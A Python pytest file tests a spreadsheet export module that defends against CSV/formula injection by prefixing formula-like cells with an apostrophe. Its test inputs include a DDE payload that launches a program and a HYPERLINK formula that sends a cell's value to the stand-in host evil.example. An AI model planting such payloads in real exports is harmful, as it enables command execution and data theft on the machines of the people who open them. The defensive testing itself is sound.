"""The one spreadsheet writer: formula-like cells open as text in CSV and XLSX (OWASP CSV
injection), and characters a worksheet cannot hold never break an export."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from matchmaker.core.export import append_row, csv_bytes, safe_cell, set_cell, write_csv

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/x?"&A1,"点这里")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_like_text_gets_an_apostrophe(attack: str) -> None:
    assert safe_cell(attack) == "'" + attack
    assert safe_cell("柳州" + attack) == "柳州" + attack, "only a leading trigger matters"


def test_numbers_dates_and_plain_text_are_unchanged() -> None:
    assert safe_cell(-5) == -5 and safe_cell(1.5) == 1.5 and safe_cell(None) is None
    assert safe_cell("09:00-09:20") == "09:00-09:20"
    assert safe_cell("园区\x01名称") == "园区名称", "a worksheet cannot hold C0 controls"


def test_csv_cells_are_quoted_and_neutralised(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    write_csv(path, ["名称", "分数"], [[a, 1] for a in ATTACKS])
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["名称", "分数"]
    assert [r[0] for r in rows[1:]] == ["'" + a for a in ATTACKS]
    assert data.decode("utf-8-sig").startswith('"名称","分数"\r\n"\'=cmd'), "every cell quoted"
    assert csv_bytes(None, [["=1"]]).decode("utf-8-sig").strip() == '"\'=1"'


def test_xlsx_cells_are_strings_never_formulas(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    append_row(sheet, ["名称", "分数"])
    for attack in ATTACKS:
        append_row(sheet, [attack, 3])
    set_cell(sheet, 20, 1, "=1+1")
    book.save(tmp_path / "x.xlsx")
    loaded = load_workbook(tmp_path / "x.xlsx")
    cells = [row[0] for row in loaded.active.iter_rows(min_row=2)]  # type: ignore[union-attr]
    expected = ["'" + a.replace("\r", "\n") for a in ATTACKS] + ["'=1+1"]  # XML reads CR as LF
    assert [c.value for c in cells if c.value] == expected
    assert {c.data_type for c in cells if c.value} == {"s"}
    assert loaded.active.cell(row=2, column=2).value == 3  # type: ignore[union-attr]
